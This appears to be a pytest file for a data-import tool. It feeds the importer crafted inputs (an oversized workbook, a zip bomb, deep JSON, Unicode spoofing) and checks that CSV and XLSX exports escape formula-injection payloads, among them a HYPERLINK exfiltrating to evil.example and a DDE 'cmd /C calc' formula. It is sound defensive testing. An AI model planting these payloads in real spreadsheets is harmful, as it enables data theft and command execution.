"""Issue 19 (input half) and issue 20 (one of each): what a hostile or careless file cannot do.

Every crafted file is built here: a workbook that declares XFD1048576, a zip bomb, a formula with no
saved value, CSV injection payloads, look-alike ids and raters, out-of-range numbers, JSON nested
100,000 deep, a 5,000-digit integer, a file that is not UTF-8. Each test fails on the code before
these fixes (a hang, a MemoryError, a traceback, a wrong or misleading message, an unescaped cell).
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from upward import codes, csvout, hub, sheets, text
from upward.errors import UpwardError
from upward.hub.template import COLUMNS, EXAMPLE_ROWS
from upward.hub import data as hub_data

KOKOMO, HOWARD_IN = "0029020", "18067"  # Kokomo, IN metro and its one county


def write_csv(path: Path, rows: list[dict], columns=None) -> Path:
    with path.open("w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(columns or rows[0]))
        w.writeheader()
        w.writerows(rows)
    return path


def workbook(path: Path, rows: list[list], *, last_cell: str | None = None, drop_dimension: bool = False) -> Path:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    if last_cell:
        ws[last_cell] = "x"
    wb.save(path)
    if drop_dimension:
        _rewrite(path, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(xml[xml.index(b"<dimension"): xml.index(b"/>", xml.index(b"<dimension")) + 2], b""))
    return path


def _rewrite(path: Path, member: str, change) -> None:
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i.filename) for i in z.infolist()}
    parts[member] = change(parts[member])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def example(**changes) -> list[dict]:
    return [{**r, **changes} for r in EXAMPLE_ROWS]


# --- the one reader: limits ------------------------------------------------------------------


def test_a_workbook_declaring_xfd1048576_is_refused_before_a_row_is_read(con, tmp_path):
    """The probe: a 5,673-byte workbook declaring XFD1048576 ran ~14 minutes in programs import --dry-run."""
    path = workbook(tmp_path / "wide.xlsx", [list(COLUMNS), list(EXAMPLE_ROWS[0].values())], last_cell="XFD1048576")
    assert path.stat().st_size < 20_000
    with pytest.raises(sheets.SheetError) as e:
        hub.import_file(con, tmp_path / "hub.duckdb", path, dry_run=True)
    assert e.value.limit == "limits.max_rows"
    assert "declares A1:XFD1048576 (1,048,576 rows × 16,384 columns)" in str(e.value) and "100,000 rows" in str(e.value)
    assert "limits.max_rows" in e.value.hint


def test_rows_are_streamed_and_reading_stops_at_the_first_row_past_the_limit(tmp_path):
    """With no declared dimension, the stream itself stops at the first row past the limit (nothing is padded)."""
    path = workbook(tmp_path / "far.xlsx", [["a", "b"], [1, 2]], last_cell="A150001", drop_dimension=True)
    assert b"<dimension" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    with pytest.raises(sheets.SheetError) as e:
        sheets.read(path)
    assert e.value.limit == "limits.max_rows" and e.value.row == 150_001
    small = sheets.read(path, limits=sheets.Limits(max_rows=200_000))
    assert [r for r, _ in small.rows] == [2, 150_001]


def test_a_zip_bomb_is_refused_by_its_unpacked_size(tmp_path):
    """The probe: a 12 MB zip bomb (2.3 GB unpacked) was accepted under the upload limit and never finished."""
    path = workbook(tmp_path / "bomb.xlsx", [["a"], [1]])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z:
        with z.open("xl/media/padding.bin", "w") as f:
            block = b"\0" * (1 << 20)
            for _ in range(200):
                f.write(block)
    assert path.stat().st_size < 1_000_000
    with pytest.raises(sheets.SheetError) as e:
        sheets.read(path)
    assert e.value.limit == "limits.max_unpacked_mb" and "unpacks to 200 MB" in str(e.value) and "128 MB" in str(e.value)


def test_a_rating_sheet_with_the_same_trick_is_refused_not_a_memory_error(con, tmp_path):
    """The probe: a 14 KB rating sheet declaring a huge sheet reached MemoryError."""
    from upward.hub import rating_import, rating_sheet

    path = workbook(tmp_path / "ratings.xlsx", [list(rating_sheet.COLUMNS)], last_cell="XFD1048576")
    with pytest.raises(sheets.SheetError) as e:
        rating_import.import_ratings(con, path, hub_path=tmp_path / "hub.duckdb", dry_run=True)
    assert e.value.limit == "limits.max_rows"


def test_limits_come_from_the_profile_and_name_the_one_hit(cli, tmp_path):
    path = write_csv(tmp_path / "three.csv", example() + [{**EXAMPLE_ROWS[0], "program_id": "HCC-3"}])
    prof = tmp_path / "small.toml"
    prof.write_text("[limits]\nmax_rows = 2\n")
    rc, _, err = cli("programs", "import", str(path), "--dry-run", "--profile", str(prof), "--hub", str(tmp_path / "h.duckdb"))
    assert rc == 1 and "three.csv, row 4" in err and "above the limit of 2 rows (limits.max_rows)" in err
    prof.write_text("[limits]\nmax_cells = 30\n")
    rc, _, err = cli("programs", "import", str(path), "--dry-run", "--profile", str(prof), "--hub", str(tmp_path / "h.duckdb"))
    assert rc == 1 and "limits.max_cells" in err
    prof.write_text("[limits]\nmax_rows = 0\n")
    rc, _, err = cli("programs", "import", str(path), "--dry-run", "--profile", str(prof))
    assert rc != 0 and "limits.max_rows" in err


# --- ranges and sizes: one place, dry run and import alike -------------------------------------


def test_three_billion_completions_is_a_problem_on_the_dry_run_and_the_import(con, tmp_path):
    """The probe: completions=3000000000 passed --dry-run, then the import crashed (ArrowInvalid int32)."""
    path = write_csv(tmp_path / "big.csv", example(completions="3000000000"))
    hub_path = tmp_path / "hub.duckdb"
    for dry in (True, False):
        with pytest.raises(hub.InventoryError) as e:
            hub.import_file(con, hub_path, path, dry_run=dry)
        assert {(p.row, p.field) for p in e.value.problems} == {(2, "completions"), (3, "completions")}
        assert "expected a number from 0 to 1,000,000 (completers in one year), got '3000000000'" in e.value.problems[0].reason
    assert not hub_path.exists()


def test_json_nested_100000_deep_and_a_5000_digit_integer_are_errors_not_tracebacks(con, tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(sheets.SheetError, match="nested too deeply"):
        hub.import_file(con, tmp_path / "hub.duckdb", deep, dry_run=True)
    digits = tmp_path / "digits.json"
    records = [dict(r) for r in EXAMPLE_ROWS]
    digits.write_text(json.dumps(records).replace('"completions": "112"', '"completions": ' + "9" * 5000))
    with pytest.raises(hub.InventoryError) as e:
        hub.import_file(con, tmp_path / "hub.duckdb", digits, dry_run=True)
    (p,) = e.value.problems
    assert (p.row, p.field) == (1, "completions") and p.reason.startswith("expected a number from 0 to 1,000,000")
    assert "(5,000 characters)" in p.reason and len(p.reason) < 200


def test_text_longer_than_a_cell_should_hold_is_a_problem(con, tmp_path):
    path = write_csv(tmp_path / "long.csv", example(program_name="x" * 3000))
    with pytest.raises(hub.InventoryError) as e:
        hub.import_file(con, tmp_path / "hub.duckdb", path, dry_run=True)
    assert {(p.row, p.field) for p in e.value.problems} == {(2, "program_name"), (3, "program_name")}
    assert "longer than 2,000 characters (3,000)" in e.value.problems[0].reason


# --- misleading messages ------------------------------------------------------------------------


def test_a_non_utf8_inventory_names_row_and_field_not_a_byte_offset(con, tmp_path):
    path = tmp_path / "latin.csv"
    text_ = write_csv(tmp_path / "ok.csv", example()).read_bytes()
    path.write_bytes(text_.replace(b"HVAC Technician", b"HVAC T\xe9chnician"))
    with pytest.raises(UpwardError) as e:
        hub.import_file(con, tmp_path / "hub.duckdb", path, dry_run=True)
    assert "latin.csv, row 3, field 'program_name': not UTF-8 text" in str(e.value)


def test_a_formula_with_no_saved_value_is_named_not_blank(con, tmp_path):
    rows = [list(COLUMNS)] + [[r[c] for c in COLUMNS] for r in EXAMPLE_ROWS]
    rows[2][COLUMNS.index("program_name")] = '=A3&" certificate"'  # openpyxl saves formulas without a value
    path = workbook(tmp_path / "formulas.xlsx", rows)
    with pytest.raises(hub.InventoryError) as e:
        hub.import_file(con, tmp_path / "hub.duckdb", path, dry_run=True)
    (p,) = e.value.problems
    assert (p.row, p.field) == (3, "program_name") and p.reason.startswith("a formula with no saved value")
    assert "blank" not in p.reason


# --- look-alike characters ----------------------------------------------------------------------


def test_lookalike_ids_are_one_programme_and_spoofed_ones_are_refused(con, tmp_path):
    hub_path = tmp_path / "hub.duckdb"
    hub.import_file(con, hub_path, write_csv(tmp_path / "first.csv", example()))
    same = [dict(r) for r in EXAMPLE_ROWS]
    same[0]["program_id"] = "HCC\u2010RN\u2011ADN"  # typographic hyphens
    same[1]["program_id"] = "HCC-HVAC\u200b-CERT"  # a zero-width space
    same[1]["provider_id"] = "ＨＣＣ"  # full-width letters
    again = hub.import_file(con, hub_path, write_csv(tmp_path / "again.csv", same), dry_run=True)
    assert again.new_programs == [] and again.new_providers == []
    assert sorted(again.unchanged_programs) == ["HCC-HVAC-CERT", "HCC-RN-ADN"]

    spoofed = [dict(r) for r in EXAMPLE_ROWS]
    spoofed[0]["program_id"] = "НСС-RN-ADN"  # Cyrillic Н and С
    spoofed[1]["program_name"] = "HVAC \u202eetacifitreC"  # a right-to-left override
    with pytest.raises(hub.InventoryError) as e:
        hub.import_file(con, hub_path, write_csv(tmp_path / "spoofed.csv", spoofed), dry_run=True)
    by = {(p.row, p.field): p.reason for p in e.value.problems}
    assert set(by) == {(2, "program_id"), (3, "program_name")}
    assert "CYRILLIC CAPITAL LETTER EN" in by[(2, "program_id")] and "'H'" in by[(2, "program_id")]
    assert "U+202E (RIGHT-TO-LEFT OVERRIDE)" in by[(3, "program_name")]


def test_lookalike_spellings_of_one_rater_are_one_voice(con, tmp_path):
    """The probe: four look-alike spellings of one rater counted as four voices."""
    from upward import profiles
    from upward.analysis import skills
    from upward.hub import rating_import, rating_sheet

    prof = profiles.load()
    hub_path = tmp_path / "hub.duckdb"
    sheet_path = tmp_path / "sheet.csv"
    rating_sheet.export(con, "0026420", "29-1141", prof, path=sheet_path)
    row = next(csv.DictReader(sheet_path.open(encoding="utf-8")))
    spellings = ["Ana Ruiz", "ANA  RUIZ", "\u0410na Ruiz", "Ana\u200b Ruiz", "Ａna Ruiz"]
    for i, who in enumerate(spellings):
        rated = [{**row, "rating": "raise", "proposed_level": "7", "rater": who, "organisation": "Memorial Hermann"}]
        rating_import.import_ratings(con, write_csv(tmp_path / f"r{i}.csv", rated), prof, hub_path=hub_path)
    e = next(e for e in skills.benchmark(con, "0026420", "29-1141", prof, hub_data(hub_path))["elements"] if e["element_id"] == row["element_id"])
    assert len(e["ratings"]) == 5 and sum(r["current"] for r in e["ratings"]) == 1
    # one rater raising to 7 against O*NET's level: the median of two voices, half way
    assert e["region_level"] == pytest.approx((float(row["onet_level"]) + 7) / 2)


def test_text_rules():
    assert len({text.identity(s) for s in ["Ana Ruiz", "ANA  RUIZ", "\u0410na Ruiz", "Ana\u200bRuiz", "Ana\u00a0Ruiz", "Ａｎａ Ruiz"]}) == 1
    assert text.identity("Иван Петров") != text.identity("Ivan Petrov")  # another script is another name
    assert text.identifier("HCC\u2013RN  1") == ("HCC-RN 1", None)
    assert text.identifier("Иван")[1] is None  # one script: fine
    assert "mixes scripts" in text.identifier("HCC-RN-\u0410DN")[1]
    assert text.problem("tab\tand\nnewline") is None
    assert "U+0007" in text.problem("bell\x07") and "U+2066" in text.problem("a\u2066b")
    assert text.clean("ﬁle\u00ad name") == "file name"


# --- CSV injection: one writer, every face ------------------------------------------------------


PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_escape_rules():
    for p in PAYLOADS:
        assert csvout.escape(p) == "'" + p
    for safe in ("-3.5", "+2", "-1e5", "plain", "", "'=already", 12, -3.5, None):
        assert csvout.escape(safe) == safe


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Cf")), max_size=12).map(str.strip).filter(bool), min_size=1, max_size=6))
def test_what_upward_writes_reads_back_as_it_was(tmp_path_factory, cells):
    """Round trip: the one writer escapes, the one reader drops the escape (for cells that need no NFKC)."""
    import unicodedata

    cells = [c for c in cells if unicodedata.normalize("NFKC", c) == c and text.clean(c) == c] or ["x"]
    out = io.StringIO()
    csvout.write_table(out, ["h"] * 1 + [f"c{i}" for i in range(len(cells) - 1)], [cells])
    path = tmp_path_factory.mktemp("rt") / "t.csv"
    path.write_bytes(out.getvalue().encode("utf-8"))
    back = sheets.read(path)
    assert back.rows[0][1] == cells


def test_arrow_writer_escapes_the_same_way(tmp_path):
    import pyarrow as pa

    t = pa.table({"name": PAYLOADS + ["-3.5", "ok"], "n": list(range(len(PAYLOADS) + 2))})
    csvout.write_arrow(tmp_path / "a.csv", t)
    got = [r["name"] for r in csv.DictReader(io.StringIO((tmp_path / "a.csv").read_bytes().decode()))]
    assert got == ["'" + p for p in PAYLOADS] + ["-3.5", "ok"]


@pytest.fixture(scope="module")
def evil_hub(con, tmp_path_factory):
    """A hub holding a programme whose name and provider are CSV-injection payloads, in Kokomo, IN (its published
    earnings below the living wage, so the report's phase-out review lists it by name)."""
    d = tmp_path_factory.mktemp("evil")
    row = {**EXAMPLE_ROWS[0], "county_fips": HOWARD_IN, "provider_name": "=cmd|' /C calc'!A0", "program_name": PAYLOADS[0],
           "median_earnings": "12000"}
    path = write_csv(d / "evil.csv", [row])
    hub.import_file(con, d / "hub.duckdb", path)
    return d / "hub.duckdb"


def test_programs_list_csv_escapes_formulas(cli, evil_hub):
    rc, out, _ = cli("programs", "list", "--region", KOKOMO, "--hub", str(evil_hub), "--csv")
    rows = [r for r in csv.DictReader(io.StringIO(out)) if r["program_id"] == "HCC-RN-ADN"]
    assert rc == 0 and rows and rows[0]["program_name"] == "'" + PAYLOADS[0]
    assert not any(v.startswith(("=", "+", "@")) for r in csv.DictReader(io.StringIO(out)) for v in r.values())


def test_benchmark_csv_escapes_rater_names(cli, con, tmp_path, monkeypatch):
    from upward import profiles
    from upward.hub import rating_import, rating_sheet

    hub_path = tmp_path / "hub.duckdb"
    monkeypatch.setenv("UPWARD_HUB", str(hub_path))
    sheet_path = tmp_path / "sheet.csv"
    rating_sheet.export(con, "0026420", "29-1141", profiles.load(), path=sheet_path)
    row = next(csv.DictReader(sheet_path.open(encoding="utf-8")))
    rated = [{**row, "rating": "agree", "rater": "=cmd|' /C calc'!A0", "organisation": "@evil"}]
    rating_import.import_ratings(con, write_csv(tmp_path / "r.csv", rated), profiles.load(), hub_path=hub_path)
    rc, out, _ = cli("benchmark", "29-1141", "--region", "houston", "--csv")
    raters = [r["raters"] for r in csv.DictReader(io.StringIO(out)) if r["raters"]]
    assert rc == 0 and raters == ["'=cmd|' /C calc'!A0 (@evil)"]


def test_export_csv_and_xlsx_keep_formulas_as_text(cli, evil_hub, tmp_path):
    import openpyxl

    rc, _, err = cli("export", "--region", KOKOMO, "--format", "csv", "-o", str(tmp_path / "out"), "--hub", str(evil_hub))
    assert rc == 0, err
    found = [v for f in (tmp_path / "out").glob("*.csv") for r in csv.reader(f.open(encoding="utf-8")) for v in r if "HYPERLINK" in v or "calc" in v]
    assert found and all(v.startswith("'") for v in found)
    rc, _, err = cli("export", "--region", KOKOMO, "--format", "xlsx", "-o", str(tmp_path / "out.xlsx"), "--hub", str(evil_hub))
    assert rc == 0, err
    wb = openpyxl.load_workbook(tmp_path / "out.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells and all(c.data_type == "s" for c in cells)


def test_dashboard_csv_download_escapes_formulas(atlas_path, evil_hub):
    from fastapi.testclient import TestClient

    from upward.web import Settings, create_app

    client = TestClient(create_app(Settings(db=atlas_path, hub=evil_hub)))
    r = client.get(f"/regions/{KOKOMO}/programs?csv=scan")
    assert r.status_code == 200
    cells = [v for row in csv.reader(io.StringIO(r.text)) for v in row]
    assert "'" + PAYLOADS[0] in cells and PAYLOADS[0] not in cells


# --- one code parser ----------------------------------------------------------------------------


def test_codes_parse_as_people_write_them():
    assert [codes.soc(x) for x in ("29-1141", "291141", "29-1141.00", "29-1141.01", "29\u20131141", 291141, 291141.0, "２９-１１４１")] == ["29-1141"] * 8
    assert [codes.soc(x) for x in ("29-114", "2911411", "ab-cdef", "", None, True)] == [None] * 6
    assert codes.parse_soc("29-1141.01").key == "29-1141.01" and codes.parse_soc("29-1141.00").key == "29-1141"
    assert [codes.cip6(x) for x in ("51.3801", "513801", "1.0101", 513801)] == ["51.3801", "51.3801", "01.0101", "51.3801"]
    assert codes.cip6("51.38") is None
    assert [codes.county_fips(x) for x in ("48201", "8001", 8001)] == ["48201", "08001", "08001"]
    assert [codes.oews_area(x) for x in ("0026420", "26420", 26420, "0")] == ["0026420", "0026420", "0026420", "0000000"]
    assert [codes.place(x) for x in ("0026420", "48201", "8001", "123456")] == ["0026420", "48201", "08001", None]


@given(st.text(alphabet="0123456789-. ", max_size=12))
def test_soc_parser_accepts_exactly_its_grammar(s):
    import re

    m = re.fullmatch(r"(\d{2})[- ]?(\d{4})(\.\d{2})?", s.strip())
    assert codes.soc(s) == (f"{m.group(1)}-{m.group(2)}" if m else None)
